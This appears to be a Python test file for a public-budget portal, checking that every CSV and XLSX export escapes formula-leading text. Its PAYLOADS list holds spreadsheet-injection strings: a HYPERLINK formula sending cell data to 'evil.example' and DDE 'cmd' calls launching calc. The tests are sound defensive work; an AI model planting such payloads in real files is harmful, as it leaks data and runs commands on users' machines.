"""Issue 13: every CSV and XLSX the portal writes keeps formula-leading text inert.

One writer path (:mod:`ashyq.tabular`), one test per writer: the final report's CSV and XLSX
(in tests/test_reports.py), the open data CSV, the budget CSVs (the dataset and the budget
pages' downloads) and the audit export. A cell starting with ``= + - @`` (or a tab or CR) is
written as ``'=…`` in CSV and as a text cell (shared string, never a formula element) in XLSX;
plain numbers stay numbers.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from ashyq import tabular
from ashyq.budget import Dataset, Row
from ashyq.budget.readers import read_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]


def csv_rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_cells_escaped_numbers_kept():
    assert [tabular.csv_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert [tabular.csv_cell(v) for v in (-1205.5, "-1205.5", "+7", 3, None, Decimal("-0.5"),
                                          "текст", "a=b")] == [
        "-1205.5", "-1205.5", "+7", "3", "", "-0.5", "текст", "a=b"]
    assert all(tabular.csv_unescape(tabular.csv_cell(p)) == p for p in PAYLOADS)
    assert tabular.csv_unescape("'текст") == "'текст"          # not ours: left alone


def test_csv_text_writes_each_cell_as_csv_cell_does():
    """The writer makes its cells inline (issue 10: a million cells at 20,000 documents):
    the same text as :func:`csv_cell` on every kind of value, a str subclass included."""
    import random

    from markupsafe import Markup

    rng = random.Random(13)
    values = [*PAYLOADS, Markup("=1+1"), Markup("ok"), "", "-", "+", "'", -1205.5, "-1205.5",
              "+7", 0, 3, None, Decimal("-0.5"), "текст", "a=b", "=", "@", True]
    rows = [[rng.choice(values) for _ in range(rng.randrange(1, 8))] for _ in range(500)]
    expected = io.StringIO(newline="")
    csv.writer(expected, lineterminator="\r\n").writerows(
        [[tabular.csv_cell(v) for v in row] for row in rows])
    assert tabular.csv_text(rows) == expected.getvalue()


def test_xlsx_formula_text_is_a_text_cell(tmp_path):
    sheet = tabular.Sheet("t", widths=(10, 10))
    for payload in PAYLOADS:
        sheet.append([payload, -5], ("cell", "number"))
    sheet.append([dt.date(2025, 3, 12), Decimal("1.5")])
    path = tmp_path / "t.xlsx"
    path.write_bytes(tabular.xlsx_bytes(sheet))
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml      # no formula element at all
    wb = load_workbook(path)
    ws = wb.active
    for row, payload in enumerate(PAYLOADS, start=1):
        cell = ws.cell(row, 1)
        assert cell.data_type == "s" and cell.value == payload
        assert cell.quotePrefix                                    # Excel keeps it text on edit
        assert ws.cell(row, 2).value == -5 and ws.cell(row, 2).data_type == "n"
    assert ws.cell(len(PAYLOADS) + 1, 1).is_date
    wb.close()


def test_open_data_csv_escapes_formulas():
    from generator.opendata import proposal_table, table_csv

    table = proposal_table([{"id": 7, "document": "BP-1", "part": "purpose", "lang": "kk",
                             "text": HYPERLINK, "votes": {"for": 1, "against": 0}}])
    rows = csv_rows(table_csv(table))
    assert rows[1][rows[0].index("text")] == "'" + HYPERLINK
    assert rows[1][rows[0].index("id")] == "7"


def test_budget_dataset_csv_escapes_and_reads_back():
    row = Row("225", "001", "", "", Decimal("10"), Decimal("10"), Decimal("-2.5"),
              {"kk": HYPERLINK, "ru": "-Расходы"})
    text = Dataset("2025", [row]).to_csv()
    [header, line] = csv_rows(text.encode())
    assert line[header.index("name_kk")] == "'" + HYPERLINK
    assert line[header.index("name_ru")] == "'-Расходы"
    assert line[header.index("executed")] == "-2.5"               # a number stays a number
    [(_line, record)] = read_csv(text.encode())          # our own file reads back as it was
    assert (record["name_kk"], record["name_ru"]) == (HYPERLINK, "-Расходы")


def test_budget_pages_csv_escapes_formulas():
    from generator.budget_pages import csv_bytes

    rows = csv_rows(csv_bytes(["name", "amount"], [[HYPERLINK, "-12.5"]]))
    assert rows == [["name", "amount"], ["'" + HYPERLINK, "-12.5"]]


def test_audit_export_escapes_formulas(tmp_path):
    from submit_api import audit
    from submit_api.db import connect, init_db

    init_db(tmp_path / "db.sqlite3")
    conn = connect(tmp_path / "db.sqlite3")
    audit.record(conn, "staff:1", "grant", HYPERLINK, after={"note": "=1+1"})
    rows = csv_rows(audit.export_csv(conn).encode())
    assert rows[1][rows[0].index("target")] == "'" + HYPERLINK
    assert rows[1][rows[0].index("id")] == "1"
